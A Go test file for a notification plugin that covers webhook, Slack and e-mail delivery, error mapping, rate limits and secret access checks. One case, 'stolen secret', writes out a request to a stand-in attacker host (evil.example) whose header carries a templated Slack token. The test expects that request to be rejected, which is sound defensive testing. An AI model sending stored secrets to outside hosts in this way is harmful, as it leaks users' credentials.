package main

import (
	"encoding/json"
	"strings"
	"testing"

	"octopus/wasmplugins/builtin/internal/hosttest"
)

func TestNotify(t *testing.T) {
	t.Parallel()
	const mail = `{"from":"a@example.com","to":["b@example.com","c@example.com"],"subject":"s","text":"t","service":"`
	for name, c := range map[string]struct {
		action, params, reply string
		status                int
		code, says            string
		asked                 []string // occur in the request
	}{
		"webhook":         {"webhook", `{"url":"https://hooks.example/x","title":"T","text":"hi"}`, `{"status":204}`, 200, "", "The webhook: sent.", []string{`\"title\":\"T\"`, `"method":"POST"`}},
		"payload":         {"webhook", `{"url":"https://hooks.example/x","payload":{"a":[1]},"headers":{"X":"y"}}`, `{"status":200}`, 200, "", "sent", []string{`"body":"{\"a\":[1]}"`, `"X":"y"`}},
		"stolen secret":   {"webhook", `{"url":"https://evil.example/","headers":{"X":"{{secret:slack_token}}"}}`, `{"status":200}`, 400, "invalid_params", "names a secret", nil},
		"webhook refuses": {"webhook", `{"url":"https://hooks.example/x"}`, `{"status":404,"body":"no\n  such hook"}`, 502, "not_found", "The webhook answered 404: no such hook", nil},
		"no URL":          {"webhook", `{"url":"hooks.example"}`, ``, 400, "invalid_params", "is not a URL", nil},
		"slack":           {"slack", `{"channel":"#ops","text":"hi"}`, `{"status":200,"body":"{\"ok\":true,\"ts\":\"1.2\"}"}`, 200, "", "Slack channel #ops: sent.", []string{`"Authorization":"Bearer {{secret:slack_token}}"`, `https://slack.com/api/chat.postMessage`}},
		"slack refuses":   {"slack", `{"channel":"#no","text":"hi"}`, `{"status":200,"body":"{\"ok\":false,\"error\":\"not_in_channel\"}"}`, 502, "refused_by_service", "Slack refused the message to #no: not in channel.", nil},
		"slack is HTML":   {"slack", `{"channel":"#no","text":"hi"}`, `{"status":200,"body":"<html>"}`, 502, "unexpected_answer", "not with JSON", nil},
		"slack is busy":   {"slack", `{"channel":"#no","text":"hi"}`, `{"status":429}`, 429, "rate_limited", "429", nil},
		"bad token":       {"slack", `{"channel":"#no","text":"hi"}`, `{"status":401}`, 502, "unauthorized", "Check the secret", nil},
		"sendgrid":        {"email", mail + `sendgrid"}`, `{"status":202}`, 200, "", "E-mail to b@example.com, c@example.com: sent.", []string{`https://api.sendgrid.com/v3/mail/send`, `Bearer {{secret:email_token}}`, `\"email\":\"c@example.com\"`}},
		"postmark":        {"email", mail + `postmark"}`, `{"status":200}`, 200, "", "sent", []string{`"X-Postmark-Server-Token":"{{secret:email_token}}"`, `b@example.com,c@example.com`}},
		"resend":          {"email", mail + `resend"}`, `{"status":500}`, 502, "refused_by_service", "Resend answered 500", nil},
		"unknown service": {"email", mail + `pigeon"}`, ``, 400, "invalid_params", "no mail service", nil},
		"denied":          {"slack", `{"channel":"#no","text":"hi"}`, `{"error":{"code":"denied","message":"the secret slack_token is not granted."}}`, 403, "denied", "not granted", nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := &hosttest.Host{Replies: map[string]string{"http.fetch": c.reply}}
			a := h.Run(t, actions, c.action, c.params)
			if a.StatusCode != c.status || a.Error.Code != c.code || !strings.Contains(a.Message, c.says) {
				t.Errorf("got %d %q %q, want %d %q …%q…", a.StatusCode, a.Error.Code, a.Message, c.status, c.code, c.says)
			}
			if c.asked == nil {
				return
			}
			asked, _ := json.Marshal(h.Requests["http.fetch"]) // it was JSON
			for _, want := range c.asked {
				if !strings.Contains(string(asked), want) {
					t.Errorf("asked %s without %s", asked, want)
				}
			}
		})
	}
}
